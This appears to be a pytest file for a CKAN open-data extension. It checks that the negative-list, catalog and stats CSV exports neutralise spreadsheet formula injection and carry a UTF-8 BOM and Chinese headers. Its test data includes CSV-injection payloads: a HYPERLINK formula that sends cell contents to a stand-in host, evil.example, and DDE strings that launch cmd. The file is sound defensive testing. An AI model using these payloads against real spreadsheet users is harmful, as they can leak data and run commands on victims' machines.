"""Finding 7 (issue 12): formula injection in the CSV exports, and (issue 14) the
files people open in Excel: UTF-8 with a BOM, Chinese headers and labels for codes.

Titles, conditions, legal basis and department names that begin with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return must reach /negative-list.csv, /catalog.csv and
/stats/requests.csv as text (a leading ``'``, OWASP), never as a formula.
"""
from __future__ import annotations

import csv
import io

import pytest

from ckan.tests import helpers

from ckanext.govopen import csv_export

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EVIL = {
    "org": "=HYPERLINK(\"http://evil.example/\"&A1,\"部门\")",
    "title": "+1+cmd|' /C calc'!A0",
    "conditions": "-2+3 仅限研究",
    "legal_basis": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


# ---------------------------------------------------------------- the writer (no DB)
@pytest.mark.parametrize("text", list(EVIL.values()) + ["=1", "+1", "-1", "@a", "\tx", "\rx",
                                                 "\u3000=cmd|' /C calc'!A0", " =1+1"])
def test_neutralise_prefixes_formula_starts(text):
    cell = csv_export.neutralise(text)
    assert cell == "'" + text


@pytest.mark.parametrize("value,expected", [("交通", "交通"), ("a=b", "a=b"), (None, ""),
                                            (3, 3), (0.25, 0.25), (["=a", "b"], "'=a; b")])
def test_neutralise_leaves_the_rest(value, expected):
    assert csv_export.neutralise(value) == expected


def test_writer_bom_headers_and_quoting():
    text = csv_export.write_csv([{"a": "=1+1", "b": "x,\"y\"\n"}], ["a", "b"], {"a": "甲"})
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows == [["甲", "b"], ["'=1+1", "x,\"y\"\n"]]


# ---------------------------------------------------------------- the three exports
def _cells(body: bytes):
    assert body.startswith("\ufeff".encode("utf-8")), "no UTF-8 BOM"
    return list(csv.reader(io.StringIO(body.decode("utf-8")[1:])))


def _no_formula(rows, where):
    bad = [c for row in rows for c in row if c.startswith(FORMULA_START)]
    assert not bad, "%s: formula cells %r" % (where, bad)


@pytest.mark.usefixtures("with_plugins", "clean_db")
def test_exports_neutralise_formulas_and_speak_chinese(app, make_user, make_org, make_entry):
    head = make_user()
    org = make_org(users=[{"name": head["name"], "capacity": "admin"}], title=EVIL["org"])
    entries = [
        make_entry(org["id"], "conditional", user=head, title=EVIL["title"],
                   open_conditions=EVIL["conditions"], legal_basis=EVIL["legal_basis"],
                   update_cycle="daily"),
        make_entry(org["id"], "not_open", user=head, title=EVIL["tab"], legal_basis=EVIL["cr"]),
        make_entry(org["id"], "unconditional", user=head, title="=2+2 公开"),
    ]
    citizen = make_user()
    helpers.call_action("govopen_objection_create", {"user": citizen["name"]},
                        package_id=entries[2]["id"], what="数值有误", evidence="见公报")

    # the portal's default language is Chinese; the test ini's is English
    neg = app.get("/zh_Hans_CN/negative-list.csv")
    cat = app.get("/zh_Hans_CN/catalog.csv")
    stats = app.get("/stats/requests.csv")
    for resp in (neg, cat, stats):
        assert resp.headers["Content-Type"].startswith("text/csv")
        assert "charset=utf-8" in resp.headers["Content-Type"]
        assert resp.headers["Content-Disposition"].startswith("attachment")
    neg_rows, cat_rows, stats_rows = _cells(neg.data), _cells(cat.data), _cells(stats.data)
    for rows, where in ((neg_rows, "negative list"), (cat_rows, "catalog"), (stats_rows, "stats")):
        _no_formula(rows, where)
    # the text itself is all there, behind the quote
    neg_cells = {c for row in neg_rows for c in row}
    for text in (EVIL["title"], EVIL["conditions"], EVIL["legal_basis"], EVIL["org"],
                 EVIL["cr"]):
        assert "'" + text in neg_cells
    assert "'=1+1" in neg_cells  # the title's leading tab was stripped on input
    assert "'" + EVIL["org"] in {c for row in stats_rows for c in row}
    assert "'=2+2 公开" in {c for row in cat_rows for c in row}

    # issue 14: Chinese column headers and labels for codes (from schemas/dataset.yaml)
    assert {"目录名称", "开放类型", "开放条件", "开放依据（法律法规及条款）", "数据提供部门"} <= set(neg_rows[0])
    assert {"目录名称", "开放类型", "共享类型", "更新周期", "主题"} <= set(cat_rows[0])
    cat_dicts = [dict(zip(cat_rows[0], r)) for r in cat_rows[1:]]
    cond = next(d for d in cat_dicts if d["目录名称"] == "'" + EVIL["title"])
    assert cond["开放类型"] == "有条件开放" and cond["更新周期"] == "每日"
    assert cond["主题"] == "交通出行" and cond["共享类型"] == "无条件共享"
    neg_types = {dict(zip(neg_rows[0], r))["开放类型"] for r in neg_rows[1:]}
    assert neg_types == {"有条件开放", "不予开放"}
    # the machine-readable stats keep their column keys (a contract of the README)
    assert stats_rows[0][:3] == ["organization", "organization_title", "received"]
